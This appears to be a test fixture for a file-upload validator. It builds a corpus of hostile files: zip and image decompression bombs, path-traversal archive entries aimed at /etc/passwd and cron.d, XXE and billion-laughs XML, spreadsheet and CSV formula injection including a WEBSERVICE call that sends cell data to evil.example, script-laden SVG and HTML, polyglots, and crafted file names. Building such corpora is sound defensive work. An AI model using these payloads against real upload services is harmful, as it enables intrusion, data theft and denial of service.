import { deflateRawSync, deflateSync } from 'node:zlib';
import { aJpeg, aPdf, aPng, aZip, anXlsx, bytes, jpegSegment, pngChunk, workbookEntries, type ZipEntry } from '#platform/files/test-kit.ts';
import * as pdfs from './pdfs.ts';

/** One hostile file: how it is sent, and whether it must be refused at the door. What is let in must do no harm to whoever reads it. */
export type Hostile = { readonly what: string; readonly name: string; readonly type: string; readonly content: () => Uint8Array; readonly door: 'refused' | 'either' };

const PDF = 'application/pdf';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** Each is built when it is first asked for, and only once. */
function one(what: string, name: string, type: string, build: () => Uint8Array, door: Hostile['door'] = 'refused'): Hostile {
  let built: Uint8Array | undefined;
  return { what, name, type, content: () => (built ??= build()), door };
}
const asPdf = (what: string, content: () => Uint8Array, door: Hostile['door'] = 'either'): Hostile => one(what, 'report.pdf', PDF, content, door);
const asXlsx = (what: string, content: () => Uint8Array, door: Hostile['door'] = 'refused'): Hostile => one(what, 'table.xlsx', XLSX, content, door);

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>';
const sheet = (cells: string): string => `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${cells}</worksheet>`;
const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">${'bcdefghij'.split('').map((name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]><worksheet>&j;</worksheet>`;
/** A workbook as one sees it from outside; nothing of ours unpacks it, whoever fetches it gets an attachment. */
const workbook = (...more: ZipEntry[]): Uint8Array => anXlsx(...more);

/** Many entries that share the bytes of one (Fifield's bomb): the directory names the same local header again and again. */
function overlapping(): Uint8Array {
  const kernel = '0'.repeat(1_000_000);
  return aZip([...workbookEntries, ...Array.from({ length: 2000 }, (_, n) => ({ name: `xl/s${n}.xml`, text: n === 0 ? kernel : 'x', ...(n === 0 ? {} : { startsAt: 200 }) }))]);
}

/** An archive in an archive in an archive. */
function nested(): Uint8Array {
  let inner = aZip([{ name: '0.txt', text: '0'.repeat(5_000_000) }]);
  for (let n = 0; n < 4; n++) inner = aZip(Array.from({ length: 10 }, (_, i) => ({ name: `${i}.zip`, text: Buffer.from(inner).toString('latin1') })));
  return inner;
}

const manyEntries = (): Uint8Array => aZip([...workbookEntries, ...Array.from({ length: 65_000 }, (_, n) => ({ name: `e${n}`, text: '' }))]);

/** A picture whose head promises 60000 × 60000 and whose data are a few kilobytes. */
function hugePng(): Uint8Array {
  const side = [0, 0, 0xea, 0x60];
  return bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], pngChunk('IHDR', bytes([...side, ...side, 8, 2, 0, 0, 0])), pngChunk('IDAT', new Uint8Array(deflateSync(new Uint8Array(20_000_000), { level: 9 }))), pngChunk('IEND', bytes()));
}
/** The same in JPEG: the frame's head says 60000 × 60000. */
const hugeJpeg = (): Uint8Array => aJpeg(jpegSegment(0xc0, bytes([8, 0xea, 0x60, 0xea, 0x60, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])));

/** A text chunk that unpacks to twenty megabytes. */
const pngText = (): Uint8Array => aPng(pngChunk('zTXt', bytes('Comment\0\0', new Uint8Array(deflateSync(new Uint8Array(20_000_000), { level: 9 })))));

/** A container hidden behind a picture: a reader of archives finds it, a reader of pictures does not. */
const zipBehind = (front: Uint8Array): Uint8Array => bytes(front, aZip([{ name: 'evil.class', text: 'x' }]));

/** Right until its last quarter. */
const cut = (whole: Uint8Array): Uint8Array => whole.subarray(0, Math.floor(whole.length * 0.75));

/** One entry that claims a few bytes and unpacks to twenty megabytes. */
function lyingEntry(): Uint8Array {
  const packed = deflateRawSync(new Uint8Array(20_000_000), { level: 9 });
  return aZip([...workbookEntries, { name: 'xl/worksheets/sheet1.xml', text: Buffer.from(packed.subarray(0, 200)).toString('latin1'), claimsUnpacked: 12 }]);
}

/** The corpus: everything that has broken an upload somewhere, as small files or as builders of large ones. */
export const corpus: readonly Hostile[] = [
  asXlsx('overlapping entries', overlapping), asXlsx('archives in archives', nested), asXlsx('65,000 entries', manyEntries), asXlsx('an entry that unpacks to 4 GB', () => workbook({ name: 'x', text: 'x', claimsUnpacked: 0xffffffff })),
  asXlsx('an entry that lies about its size', lyingEntry, 'either'), asXlsx('a way out', () => workbook({ name: '../../../etc/cron.d/x', text: 'x' })), asXlsx('a way out by a drive', () => workbook({ name: 'C:\\x', text: 'x' })), asXlsx('a way out by an absolute path', () => workbook({ name: '/etc/passwd', text: 'x' })),
  asXlsx('NUL in the name of an entry', () => workbook({ name: 'a\0.xml', text: 'x' })), asXlsx('a symbolic link', () => workbook({ name: 'l', text: '/etc/passwd', attributes: 0xa1ff0000 })), asXlsx('a locked entry', () => workbook({ name: 'x', text: 'x', flags: 1 })), asXlsx('macros', () => workbook({ name: 'xl/vbaProject.bin', text: 'x' })),
  asXlsx('an external link', () => workbook({ name: 'xl/externalLinks/externalLink1.xml', text: '<externalLink/>' })), asXlsx('an embedded object', () => workbook({ name: 'xl/embeddings/oleObject1.bin', text: 'x' })),
  asXlsx('an external entity', () => workbook({ name: 'xl/worksheets/sheet1.xml', text: '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>' }), 'either'),
  asXlsx('a billion laughs', () => workbook({ name: 'xl/worksheets/sheet1.xml', text: laughs }), 'either'), asXlsx('a dimension of a million rows', () => workbook({ name: 'xl/worksheets/sheet1.xml', text: sheet('<dimension ref="A1:XFD1048576"/>') }), 'either'),
  asXlsx('cells of formulas', () => workbook({ name: 'xl/worksheets/sheet1.xml', text: sheet('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://evil.example/"&amp;A2)</f></c><c r="B1"><f>cmd|\'/c calc\'!A1</f></c></row></sheetData>') }), 'either'),
  asXlsx('half a workbook', () => cut(workbook())), asXlsx('a workbook with a page before it', () => bytes('<html>', workbook())), one('a workbook with macros under its own name', 'table.xlsm', XLSX, () => workbook()),
  asPdf('JavaScript', pdfs.withJavaScript), asPdf('a program to launch', pdfs.withLaunch), asPdf('an address to open', pdfs.withUri), asPdf('an embedded program', pdfs.withEmbedded), asPdf('a form in XFA with an external entity', pdfs.withXfa),
  asPdf('a hundred thousand pages', pdfs.manyPages), asPdf('pages in a circle', pdfs.pagesInACircle), asPdf('pages twenty thousand deep', pdfs.deepPages), asPdf('a content that swells', pdfs.contentBomb), asPdf('a content packed thrice', pdfs.nestedBomb), asPdf('a stream of objects that swells', pdfs.objectStreamBomb),
  asPdf('a picture of 60000 × 60000', pdfs.hugePicture), asPdf('a page of a thousand kilometres', pdfs.hugePage), asPdf('a page without extent', pdfs.noSizePage), asPdf('a drawing that draws itself', pdfs.formInAForm), asPdf('a hundred and fifty thousand strokes', pdfs.manyStrokes),
  asPdf('a broken table of objects', pdfs.brokenTable), asPdf('a table of objects that leads to itself', pdfs.tableInACircle), asPdf('a hundred thousand brackets', pdfs.deepNesting), asPdf('a font that is made of itself', pdfs.badFont),
  asPdf('a password', pdfs.locked, 'refused'), asPdf('an unknown cipher', pdfs.lockedStrangely), asPdf('half a PDF', () => cut(pdfs.onePage()), 'refused'), asPdf('a PDF with an archive behind', () => zipBehind(pdfs.onePage()), 'refused'), asPdf('a PDF with a page before it', () => bytes('<html><script>1</script>', pdfs.onePage()), 'refused'),
  asPdf('a program under the name of a PDF', () => bytes('\x7fELF\x02\x01\x01', new Uint8Array(500)), 'refused'), asPdf('a workbook under the name of a PDF', () => workbook(), 'refused'), asPdf('nothing', () => bytes(), 'refused'),
  one('a drawing with a script', 'logo.svg', 'image/svg+xml', () => bytes(svg)), one('a drawing with a script as a picture', 'logo.png', 'image/png', () => bytes(svg)), one('a page as a picture', 'a.jpg', 'image/jpeg', () => bytes('<!doctype html><script>alert(1)</script>')),
  one('a picture of 60000 × 60000', 'big.png', 'image/png', hugePng), one('a photograph of 60000 × 60000', 'big.jpg', 'image/jpeg', hugeJpeg), one('a note that swells', 'note.png', 'image/png', pngText, 'either'), one('half a picture', 'half.png', 'image/png', () => cut(aPng())),
  one('a photograph with a page in its note', 'page.jpg', 'image/jpeg', () => aJpeg(jpegSegment(0xfe, bytes('<html><script>alert(1)</script>')))), one('a photograph with an archive behind', 'zip.jpg', 'image/jpeg', () => zipBehind(aJpeg())), one('a picture with an archive behind', 'zip.png', 'image/png', () => zipBehind(aPng())), one('a picture with a PDF in a note', 'pdf.png', 'image/png', () => aPng(pngChunk('tEXt', bytes('a\0', aPdf())))),
  one('a picture named as a PDF', 'a.pdf', PDF, () => aPng()), one('a PDF declared as a page', 'a.pdf', 'text/html', () => aPdf()), one('two extensions', 'a.pdf.exe', PDF, () => aPdf()), one('no extension', 'a', PDF, () => aPdf()), one('an extension behind NUL', 'a.exe\0.pdf', PDF, () => aPdf('nul'), 'either'),
  one('a way out in the name', '../../../../etc/cron.d/a.pdf', PDF, () => aPdf('dots'), 'either'), one('a Windows way out in the name', '..\\..\\a.pdf', PDF, () => aPdf('backslash'), 'either'), one('a name that reads backwards', 'a\u202efdp.exe.pdf', PDF, () => aPdf('rtl'), 'either'), one('a name of 300 characters', `${'长'.repeat(300)}.pdf`, PDF, () => aPdf('long'), 'either'),
  one('a device', 'CON.pdf', PDF, () => aPdf('device'), 'either'), one('line ends in the name', 'a\r\nSet-Cookie: x=1.pdf', PDF, () => aPdf('crlf'), 'either'), one('markup in the name', '"><script>alert(1)</script>.pdf', PDF, () => aPdf('markup'), 'either'),
  one('a table that calculates', 'a.csv', 'text/csv', () => bytes('=cmd|\'/c calc\'!A1,+1,-1,@SUM(A1)\r\n')), one('a table with line ends in a cell', 'b.csv', 'text/csv', () => bytes('"a\r\nb",1\r"c\n\r",2\r\n')), one('a table with NUL', 'c.csv', 'text/csv', () => bytes('a,b\n\0,1\n')), one('an invoice with an external entity', 'd.xml', 'application/xml', () => bytes('<?xml version="1.0"?><!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>')),
];
